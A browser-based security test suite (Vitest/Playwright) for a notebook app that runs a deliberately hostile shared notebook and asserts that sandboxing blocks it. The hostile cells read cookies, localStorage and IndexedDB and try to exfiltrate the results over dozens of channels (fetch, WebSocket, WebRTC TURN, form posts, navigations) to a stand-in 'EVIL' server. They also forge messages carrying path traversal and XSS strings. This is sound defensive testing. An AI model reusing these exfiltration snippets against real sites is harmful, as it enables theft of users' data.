/**
 * A hostile shared notebook, run after consent, in Chromium with the popup blocker on, against the
 * built app. Before it runs, the browser holds secrets the notebook must never see: a local
 * notebook in IndexedDB, an unload-journal entry in localStorage, a cookie, and the user's own data
 * file (loaded through the data menu) with a marked respondent name. The notebook then tries every
 * way out we know of — fetch, XHR, sendBeacon, WebSocket, EventSource, img/script/link/style/font/
 * iframe/object/prefetch loads, a worker, dynamic import, its own and the top window's `location`,
 * `window.open`, a form, an `<a target=_blank>` and an `<a download>` click, `<meta http-equiv=refresh>`,
 * WebRTC ICE to a STUN/TURN server — and forges messages to the page, over the window and over the
 * frame's own channel. Every "other origin" is a local counting server (UDP for ICE); the test
 * asserts that no request reaches it and that no secret appears in anything the notebook could
 * read (its own output, the messages it received) or send.
 *
 * Channels that navigate run in a notebook of their own (a navigation that succeeds ends the page
 * and every other attempt with it). The per-channel counts are written to
 * test-output/hostile-notebook.json for the record. Set TVERRSNITT_DIST to run against another build.
 */
import { createSocket, type Socket } from "node:dgram";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Page } from "playwright-core";
import type { CellDoc } from "../../src/notebook/document";
import { unwrap } from "../../src/base/result";
import { encodeShare } from "../../src/notebook/share-codec";
import { countingServer, type ReceivedRequest } from "./static-server";
import { notebookFrame, openApp } from "./browser-helpers";
import { useWorkbench } from "./use-workbench";

/** Every secret starts with this; it must never show up anywhere the notebook can reach. */
const MARK = "TVSECRET";
const workDir = "test-output/hostile";
const userFile = `${workDir}/respondents-with-secret.csv`;

const wb = useWorkbench({ popupBlocker: true, context: { viewport: { width: 1280, height: 860 } } });
let evil: Awaited<ReturnType<typeof countingServer>>;
/** The STUN/TURN "server": counts the UDP packets ICE sends it. */
let stun: Socket;
const stunPackets: string[] = [];
const popups: string[] = [];

/** A channel: cells that try it, and (for navigations) a notebook of its own. */
interface Channel {
  /** Also the path its requests carry (`/name`), unless `paths` says otherwise. */
  name: string;
  paths?: string[];
  /** The cell source; `EVIL` (the counting server's URL) and `stolen` (whatever was read) are in scope. */
  source: string;
  navigates?: boolean;
}

const q = (text: string) => JSON.stringify(text);
/** The query part every attempt sends: what was read, cut to a size every URL can carry. */
const PAYLOAD = `encodeURIComponent(stolen.slice(0, 1200))`;

/** Reads everything local the notebook might reach; the result (or the errors) become `stolen`. */
const READ_CELL = `const stolen = await (async () => {
  const found = [];
  const attempt = async (label, read) => {
    try { found.push(label + "=" + String(await read())); } catch (e) { found.push(label + " blocked: " + (e && e.name)); }
  };
  await attempt("indexedDB", () => new Promise((resolve, reject) => {
    const request = indexedDB.open("tverrsnitt");
    request.onerror = () => reject(request.error);
    request.onsuccess = () => {
      try {
        const all = request.result.transaction("notebooks", "readonly").objectStore("notebooks").getAll();
        all.onsuccess = () => resolve(JSON.stringify(all.result));
        all.onerror = () => reject(all.error);
      } catch (e) { reject(e); }
    };
  }));
  await attempt("localStorage", () => JSON.stringify(Object.entries(localStorage)));
  await attempt("cookie", () => document.cookie);
  await attempt("parent.document", () => parent.document.documentElement.outerHTML);
  await attempt("parent.localStorage", () => JSON.stringify(Object.entries(parent.localStorage)));
  await attempt("top.cookie", () => top.document.cookie);
  await attempt("survey", async () => (await survey).rows.map((r) => r.name).join(";"));
  return found.join("\\n");
})()`;

/**
 * Collects every message the frame receives (binary payloads decoded), to look for secrets in them.
 * It also takes over the frame's channel to the page: the first time the frame's own code posts on a
 * MessagePort, the port is kept (`window.__port`) and listened to, so forged messages can travel the
 * real channel too.
 */
const LISTEN_CELL = `const heard = (() => {
  const log = [];
  const text = (value) => {
    if (value instanceof ArrayBuffer) return new TextDecoder().decode(value);
    if (ArrayBuffer.isView(value)) return new TextDecoder().decode(value.buffer);
    try { return JSON.stringify(value, (k, v) => (v instanceof ArrayBuffer || ArrayBuffer.isView(v) ? text(v) : v)) ?? String(value); } catch { return String(value); }
  };
  window.addEventListener("message", (event) => log.push(text(event.data)));
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (...args) {
    if (!window.__port) {
      window.__port = this;
      this.addEventListener("message", (event) => log.push(text(event.data)));
    }
    return post.apply(this, args);
  };
  return log;
})()`;

const CHANNELS: Channel[] = [
  { name: "fetch", source: `await fetch(EVIL + "fetch?d=" + ${PAYLOAD}).then(() => "sent", (e) => "failed: " + e.message)` },
  { name: "xhr", source: `await new Promise((done) => { try { const x = new XMLHttpRequest(); x.open("POST", EVIL + "xhr"); x.onload = () => done("sent"); x.onerror = () => done("error"); x.send(stolen); } catch (e) { done("threw " + e.name); } })` },
  { name: "beacon", source: `(() => { try { return navigator.sendBeacon(EVIL + "beacon", stolen) ? "queued" : "refused"; } catch (e) { return "threw " + e.name; } })()` },
  { name: "websocket", source: `await new Promise((done) => { try { const ws = new WebSocket(EVIL.replace("http", "ws") + "websocket?d=" + ${PAYLOAD}); ws.onopen = () => done("open"); ws.onerror = () => done("error"); setTimeout(() => done("timeout"), 1500); } catch (e) { done("threw " + e.name); } })` },
  { name: "eventsource", source: `await new Promise((done) => { try { const es = new EventSource(EVIL + "eventsource?d=" + ${PAYLOAD}); es.onopen = () => done("open"); es.onerror = () => { es.close(); done("error"); }; setTimeout(() => { es.close(); done("timeout"); }, 1500); } catch (e) { done("threw " + e.name); } })` },
  { name: "img", source: `await new Promise((done) => { const img = new Image(); img.onload = () => done("loaded"); img.onerror = () => done("error"); img.src = EVIL + "img?d=" + ${PAYLOAD}; document.body.append(img); setTimeout(() => done("timeout"), 1500); })` },
  { name: "script", source: `await new Promise((done) => { const s = document.createElement("script"); s.onload = () => done("loaded"); s.onerror = () => done("error"); s.src = EVIL + "script?d=" + ${PAYLOAD}; document.head.append(s); setTimeout(() => done("timeout"), 1500); })` },
  { name: "link", source: `await new Promise((done) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = () => done("loaded"); l.onerror = () => done("error"); l.href = EVIL + "link?d=" + ${PAYLOAD}; document.head.append(l); setTimeout(() => done("timeout"), 1500); })` },
  { name: "style", paths: ["/style", "/style-bg"], source: `(() => { const s = document.createElement("style"); s.textContent = '@import url("' + EVIL + 'style?d=' + ${PAYLOAD} + '"); body { background-image: url("' + EVIL + 'style-bg?d=x"); }'; document.head.append(s); return "added"; })()` },
  { name: "font", paths: ["/font", "/font-face"], source: `await (async () => { const s = document.createElement("style"); s.textContent = '@font-face { font-family: leak; src: url("' + EVIL + 'font?d=' + ${PAYLOAD} + '"); } .tv-leak { font-family: leak; }'; document.head.append(s); const el = document.createElement("div"); el.className = "tv-leak"; el.textContent = "leak"; document.body.append(el); try { await new FontFace("leak2", 'url("' + EVIL + 'font-face?d=x")').load(); return "loaded"; } catch (e) { return "failed: " + e.name; } })()` },
  { name: "iframe", source: `(() => { const f = document.createElement("iframe"); f.src = EVIL + "iframe?d=" + ${PAYLOAD}; document.body.append(f); return "added"; })()` },
  { name: "object", source: `(() => { const o = document.createElement("object"); o.data = EVIL + "object?d=" + ${PAYLOAD}; document.body.append(o); return "added"; })()` },
  { name: "prefetch", source: `(() => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = EVIL + "prefetch?d=" + ${PAYLOAD}; document.head.append(l); return "added"; })()` },
  { name: "worker", source: `(() => { try { new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(EVIL + "worker?d=x") + ")"], { type: "text/javascript" }))); return "started"; } catch (e) { return "threw " + e.name; } })()` },
  {
    name: "webrtc",
    source: `await (async () => {
  const Pc = window.RTCPeerConnection ?? window.webkitRTCPeerConnection ?? (() => { try { const f = document.createElement("iframe"); document.body.append(f); return f.contentWindow.RTCPeerConnection; } catch (e) { return undefined; } })();
  if (!Pc) return "no RTCPeerConnection";
  try {
    const pc = new Pc({ iceServers: [{ urls: "stun:127.0.0.1:" + STUN }, { urls: "turn:127.0.0.1:" + STUN + "?transport=udp", username: stolen.slice(0, 200), credential: "x" }] });
    pc.createDataChannel("leak");
    await pc.setLocalDescription(await pc.createOffer());
    await new Promise((r) => setTimeout(r, 1500));
    return "offered";
  } catch (e) { return "threw " + e.name; }
})()`,
  },
  { name: "import", source: `await import(EVIL + "import?d=" + ${PAYLOAD}).then(() => "loaded", (e) => "failed: " + e.message)` },
  {
    name: "forged-messages",
    source: `await (async () => {
  const forged = [
    { type: "file", id: 9001, path: "../index.html" },
    { type: "file", id: 9002, path: "data/../notebooks/index.json" },
    { type: "file", id: 9003, path: "data/%2e%2e/index.html" },
    { type: "file", id: 9004, path: "/etc/passwd" },
    { type: "file", id: 9005, path: EVIL + "file" },
    { type: "file", id: 9006, path: "//127.0.0.1/x" },
    { type: "file", id: 9007, path: "data\\\\..\\\\index.html" },
    { type: "file", id: "x", path: 7 },
    { type: "cells", cells: "junk" },
    { type: "status", running: [{ id: "<img src=x onerror=alert(1)>", names: ["<b>"] }], busy: true },
    { type: "filter", filter: { fylke: ["<script>"] } },
    { type: "inputs", values: { x: "x".repeat(3000000) } },
    { type: "ready" },
    { type: "open", doc: { title: "x", cells: [] } },
    null,
    "x".repeat(5000000),
  ];
  // Through the window (the page reads only "ready" there) and through the frame's own channel.
  for (const message of forged) parent.postMessage(message, "*");
  for (let i = 0; i < 50 && !window.__port; i++) await new Promise((r) => setTimeout(r, 20));
  const port = window.__port;
  for (const message of forged) port?.postMessage(message);
  try { port?.postMessage({ type: "file", id: 9010, path: "data/demo/kommuner-1999.csv" }, [new MessageChannel().port1]); } catch (e) { void e; }
  try { top.postMessage({ type: "file", id: 9011, path: "../index.html" }, "*"); } catch (e) { void e; }
  await new Promise((r) => setTimeout(r, 1000));
  return "sent " + forged.length + (port ? " twice" : " once (no channel found)");
})()`,
  },
  // Loads the issue does not list, each by a road of its own: hints that open a connection before
  // any request (preconnect, DNS prefetch), preloads, icons, and pictures or media by attributes
  // other than `src`.
  {
    name: "hints",
    paths: ["/preconnect", "/dns-prefetch", "/modulepreload", "/preload", "/icon"],
    source: `(() => { for (const [rel, extra] of [["preconnect"], ["dns-prefetch"], ["modulepreload"], ["preload", "image"], ["icon"]]) { const l = document.createElement("link"); l.rel = rel; if (extra) l.as = extra; l.href = EVIL + rel + "?d=" + ${PAYLOAD}; document.head.append(l); } return "added"; })()`,
  },
  {
    name: "media",
    paths: ["/srcset", "/svg-image", "/input-image", "/audio", "/video-poster", "/embed", "/picture-source"],
    source: `await (async () => {
  const at = (path) => EVIL + path + "?d=" + ${PAYLOAD};
  const img = document.createElement("img"); img.srcset = at("srcset") + " 1x"; document.body.append(img);
  const picture = document.createElement("picture"); const source = document.createElement("source"); source.srcset = at("picture-source"); picture.append(source, document.createElement("img")); document.body.append(picture);
  document.body.insertAdjacentHTML("beforeend", '<svg width="4" height="4"><image href="' + at("svg-image") + '" width="4" height="4"/></svg>');
  const input = document.createElement("input"); input.type = "image"; input.src = at("input-image"); document.body.append(input);
  const audio = new Audio(at("audio")); audio.preload = "auto"; document.body.append(audio);
  const video = document.createElement("video"); video.poster = at("video-poster"); document.body.append(video);
  const embed = document.createElement("embed"); embed.src = at("embed"); document.body.append(embed);
  await new Promise((r) => setTimeout(r, 1500));
  return "added";
})()`,
  },
  {
    // The page's other frames: the spare the page loads beside a quiet notebook (primed with the
    // survey, the next notebook's frame). Once one is there, messages are forged to it as if from
    // the page — an `open` with a channel to answer on, a `prime` — and it is navigated away. The
    // notebook is busy until its cells settle and no spare is made while it is, so this waits in the
    // background and writes its outcome into #tv-sibling.
    name: "sibling-frames",
    source: `(() => {
  const box = document.createElement("pre"); box.id = "tv-sibling"; document.body.append(box);
  const started = Date.now();
  const timer = setInterval(async () => {
    const others = Array.from({ length: parent.frames.length }, (_, i) => parent.frames[i]).filter((w) => w !== window);
    if (others.length === 0 && Date.now() - started < 40000) return;
    clearInterval(timer);
    const out = [];
    for (const other of others) {
      const { port1, port2 } = new MessageChannel();
      let answered = false;
      port1.onmessage = () => { answered = true; };
      try { other.postMessage({ type: "open", channel: port2, doc: { title: "x", cells: [{ id: "1", kind: "js", source: "survey" }] }, drafts: {}, mode: "live", view: "live", inputs: {}, filter: {}, data: { kind: "bundled" }, held: [], locale: "en" }, "*", [port2]); } catch (e) { out.push("post threw " + e.name); }
      try { other.postMessage({ type: "prime", files: [] }, "*"); other.postMessage({ type: "hello" }, "*"); } catch (e) { void e; }
      await new Promise((r) => setTimeout(r, 1500));
      out.push(answered ? "answered" : "silent");
      try { other.location.href = EVIL + "sibling-frames?d=" + ${PAYLOAD}; out.push("navigated"); } catch (e) { out.push("navigation threw " + e.name); }
    }
    box.textContent = "SIBLINGS " + others.length + ": " + out.join(", ");
  }, 200);
  return "waiting for a spare frame";
})()`,
  },
  { name: "location", navigates: true, source: `(() => { location.href = EVIL + "location?d=" + ${PAYLOAD}; return "navigating"; })()` },
  { name: "top-location", navigates: true, source: `(() => { try { top.location.href = EVIL + "top-location?d=" + ${PAYLOAD}; return "navigating"; } catch (e) { return "threw " + e.name; } })()` },
  { name: "window-open", navigates: true, source: `(() => { try { return window.open(EVIL + "window-open?d=" + ${PAYLOAD}) ? "opened" : "refused"; } catch (e) { return "threw " + e.name; } })()` },
  { name: "form", navigates: true, source: `(() => { const f = document.createElement("form"); f.method = "POST"; f.action = EVIL + "form"; const i = document.createElement("input"); i.name = "d"; i.value = stolen; f.append(i); document.body.append(f); try { f.submit(); return "submitted"; } catch (e) { return "threw " + e.name; } })()` },
  { name: "a-blank", navigates: true, source: `(() => { const a = document.createElement("a"); a.href = EVIL + "a-blank?d=" + ${PAYLOAD}; a.target = "_blank"; document.body.append(a); a.click(); return "clicked"; })()` },
  { name: "a-download", navigates: true, source: `(() => { const a = document.createElement("a"); a.href = EVIL + "a-download?d=" + ${PAYLOAD}; a.download = "x.txt"; document.body.append(a); a.click(); return "clicked"; })()` },
  { name: "a-top", navigates: true, source: `(() => { const a = document.createElement("a"); a.href = EVIL + "a-top?d=" + ${PAYLOAD}; a.target = "_top"; document.body.append(a); a.click(); return "clicked"; })()` },
  { name: "open-top", navigates: true, source: `(() => { try { return window.open(EVIL + "open-top?d=" + ${PAYLOAD}, "_parent") ? "opened" : "refused"; } catch (e) { return "threw " + e.name; } })()` },
  { name: "meta-refresh", navigates: true, source: `(() => { const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + EVIL + "meta-refresh?d=" + ${PAYLOAD}; document.head.append(m); return "added"; })()` },
];

/** The paths a channel's requests carry. */
function pathsOf(channel: Channel): string[] {
  return channel.paths ?? [`/${channel.name}`];
}

function hostileDoc(channels: Channel[]): { title: string; cells: CellDoc[] } {
  const cells: CellDoc[] = [
    { id: "evil", kind: "js", source: `const EVIL = ${q(evil.url)}` },
    { id: "stun", kind: "js", source: `const STUN = ${stun.address().port}` },
    { id: "listen", kind: "js", source: LISTEN_CELL },
    { id: "read", kind: "js", source: READ_CELL },
    { id: "shown", kind: "js", source: "stolen" },
  ];
  channels.forEach((channel, i) => cells.push({ id: `c${i}`, kind: "js", source: `const r${i} = ${channel.source}` }));
  cells.push({ id: "all", kind: "js", source: `const allDone = [${channels.map((c, i) => `${q(c.name)} + ": " + r${i}`).join(", ")}].join("\\n") + "\\nALL DONE"` });
  cells.push({ id: "done", kind: "js", source: "allDone" });
  // A DOM node, not a string: strings are shown cut to 4,000 characters, and all of it must be checked.
  cells.push({ id: "heard", kind: "js", source: "(() => { const pre = document.createElement('pre'); pre.textContent = allDone ? heard.join('\\n') + '\\nHEARD ' + heard.length : ''; return pre; })()" });
  return { title: "Quarterly figures", cells };
}

/** What one hostile run left behind: the notebook's document, its attempts' results and what it heard. */
interface RunOutcome {
  text: string;
  finished: boolean;
  /** The "done" cell: one line per attempt, as the notebook saw it. */
  results: string;
  /** The "heard" cell: every message the frame received. */
  heard: string;
}

/** Load the user's file (with a marked name) through the data menu, as a user would. */
async function loadUserFile(page: Page): Promise<void> {
  await page.setInputFiles(".nb-data-file", userFile);
  await page.waitForSelector(".nb-data-use");
  await page.click(".nb-data-use");
  await page.waitForSelector(".nb-data-button.is-user");
}

/** Open the app with the user's file loaded, then open the hostile link in the same page and run it. */
async function runHostile(channels: Channel[], wait: number): Promise<RunOutcome> {
  const page = await wb.context.newPage();
  page.on("popup", (popup) => popups.push(popup.url()));
  try {
    await openApp(page, wb.server.url, "#/nb/demo");
    await loadUserFile(page);
    const link = `${wb.server.url}#share=${unwrap(await encodeShare({ doc: hostileDoc(channels), inputs: {} }))}`;
    await page.goto(link);
    await page.waitForSelector(".nb-preview-bar");
    await page.click(".nb-consent");
    // A navigation that gets through ends the notebook's document before it can be looked at.
    const frame = await notebookFrame(page, wait).catch(() => undefined);
    const finished = frame
      ? await frame.waitForFunction(() => /HEARD \d+/.test(document.querySelector("#cell-heard .nb-output")?.textContent ?? ""), undefined, { timeout: wait }).then(() => true, () => false)
      : false;
    // The sibling-frames attempt waits for the spare the page makes once the notebook is quiet.
    if (frame && channels.some((c) => c.name === "sibling-frames")) {
      await frame.waitForFunction(() => /SIBLINGS/.test(document.querySelector("#tv-sibling")?.textContent ?? ""), undefined, { timeout: 45_000 }).catch(() => undefined);
    }
    await page.waitForTimeout(1500);
    // What the notebook could see: its own document (outputs, the messages it heard).
    const read = (selector: string) => (frame ? frame.evaluate((s) => document.querySelector(s)?.textContent ?? "", selector).catch(() => "") : Promise.resolve(""));
    const text = frame ? await frame.evaluate(() => document.documentElement.outerHTML).catch(() => "") : "";
    return { text, finished, results: await read("#cell-done .nb-output"), heard: await read("#cell-heard .nb-output") };
  } finally {
    await page.close().catch(() => undefined);
  }
}

const table: { channel: string; requests: number; secretSent: boolean }[] = [];
let outcomes: RunOutcome[] = [];

beforeAll(async () => {
  mkdirSync(workDir, { recursive: true });
  const lines = readFileSync("data/survey-1999/respondents.csv", "utf8").trimEnd().split("\n");
  const header = (lines[0] ?? "").split(",");
  const nameAt = header.indexOf("name");
  const marked = lines.map((line, i) => {
    if (i !== 2) return line;
    const fields = line.split(",");
    fields[nameAt] = `${MARK}-userfile`;
    return fields.join(",");
  });
  writeFileSync(userFile, marked.join("\n") + "\n");
  evil = await countingServer();
  stun = createSocket("udp4");
  stun.on("message", (packet) => stunPackets.push(packet.toString("latin1")));
  await new Promise<void>((resolve) => stun.bind(0, "127.0.0.1", () => resolve()));
  // Seed the secrets the way the app stores them: a local notebook, an unload journal, a cookie.
  const page = await wb.context.newPage();
  await openApp(page, wb.server.url, "#/nb/demo");
  await page.evaluate(async (mark) => {
    const record = (key: string, text: string) => ({
      key, origin: { kind: "new" }, drafts: {}, inputs: {}, updatedAt: Date.now(),
      doc: { title: `Budget ${key}`, cells: [{ id: "1", kind: "md", source: text }] },
    });
    await new Promise<void>((resolve, reject) => {
      const open = indexedDB.open("tverrsnitt");
      open.onerror = () => reject(open.error);
      open.onsuccess = () => {
        const tx = open.result.transaction("notebooks", "readwrite");
        tx.objectStore("notebooks").put(record("local:secret", `${mark}-indexeddb`), "local:secret");
        tx.oncomplete = () => resolve();
        tx.onerror = () => reject(tx.error);
      };
    });
    localStorage.setItem("tverrsnitt-journal:local:journal", JSON.stringify(record("local:journal", `${mark}-journal`)));
    document.cookie = `tv=${mark}-cookie; path=/`;
  }, MARK);
  await page.reload();
  // The seed is real: the app itself lists both secret notebooks.
  await page.waitForSelector(".nb-list >> text=Budget local:secret");
  await page.waitForSelector(".nb-list >> text=Budget local:journal");
  await page.close();
  const staying = CHANNELS.filter((c) => !c.navigates);
  outcomes = [await runHostile(staying, 20_000)];
  for (const channel of CHANNELS.filter((c) => c.navigates)) outcomes.push(await runHostile([channel], 4_000));
  const requests = evil.requests();
  for (const channel of CHANNELS) {
    if (channel.name === "webrtc") {
      table.push({ channel: "webrtc (UDP packets)", requests: stunPackets.length, secretSent: stunPackets.some((p) => p.includes(MARK)) });
      continue;
    }
    const paths = pathsOf(channel);
    const mine = requests.filter((r) => paths.some((p) => r.url === p || r.url.startsWith(`${p}?`)));
    table.push({ channel: channel.name, requests: mine.length, secretSent: mine.some((r) => `${decodeURIComponent(r.url)} ${r.body}`.includes(MARK)) });
  }
  writeFileSync(`${workDir}/../hostile-notebook.json`, JSON.stringify({
    dist: process.env.TVERRSNITT_DIST ?? "dist", table, popups,
    // TCP connections that carried no request: Chromium opens one before it refuses some loads
    // (docs/decisions.md, "Channels a browser sandbox cannot close").
    connectionsWithoutRequest: evil.connections(),
    allRequests: requests.map((r: ReceivedRequest) => `${r.method} ${r.url.slice(0, 80)}`),
    results: outcomes[0]?.results, heard: outcomes[0]?.heard.slice(0, 4000),
  }, null, 2));
  // Ten hostile runs one after another, each opening the app and loading the user's file: the file
  // took 180 s of the 240 s this was at a load of 24-26 on 2 cores (87 s at 17).
}, 420_000);

afterAll(async () => {
  await evil?.close();
  stun?.close();
});

describe("a hostile shared notebook after consent", () => {
  it("ran: the notebook that stays on the page finished every attempt", () => {
    expect(outcomes[0]?.finished).toBe(true);
  });

  it("reaches no other origin through any channel (popup blocker on)", () => {
    expect(table.filter((row) => row.requests > 0)).toEqual([]);
    expect(evil.requests()).toEqual([]);
    expect(stunPackets).toEqual([]);
    expect(popups).toEqual([]);
  });

  it("reads no local data: no secret in its output, in the messages it received, or in anything sent", () => {
    for (const outcome of outcomes) expect(outcome.text.includes(MARK)).toBe(false);
    expect(evil.requests().some((r) => `${decodeURIComponent(r.url)} ${r.body}`.includes(MARK))).toBe(false);
  });

  it("gets files only from under data/: every other path it asks the page for is refused", () => {
    const heard = outcomes[0]?.heard ?? "";
    expect(outcomes[0]?.results).toContain("forged-messages: sent 16 twice");
    for (const id of [9001, 9002, 9003, 9004, 9005, 9006, 9007]) expect(heard).toMatch(new RegExp(`"type":"file","id":${id},"error":"[^"]*was not read`));
    // The one legitimate path was answered, with the bundled file's bytes.
    expect(heard).toMatch(/"type":"file","id":9010,"bytes":"knr,kommune,fylke/);
  });

  it("cannot reach the spare frame beside it: forged page messages go unanswered and its navigation is refused", () => {
    const text = outcomes[0]?.text ?? "";
    expect(text).toMatch(/SIBLINGS [1-9]\d*: /);
    const outcome = text.match(/SIBLINGS [^<]*/)?.[0] ?? "";
    expect(outcome).not.toMatch(/answered|navigated\b/);
    expect(outcome).toMatch(/silent, navigation threw \w+/);
  });

  it("was told no for every storage and page read", () => {
    const text = outcomes[0]?.text ?? "";
    for (const read of ["indexedDB", "localStorage", "cookie", "parent.document", "parent.localStorage", "top.cookie"]) expect(text).toContain(`${read} blocked: SecurityError`);
    // The user's file was loaded, but a shared notebook runs on the bundled reconstruction until the user says otherwise.
    expect(text).toMatch(/survey=[^\n]*Vestfold fylkeskommune/);
  });
});
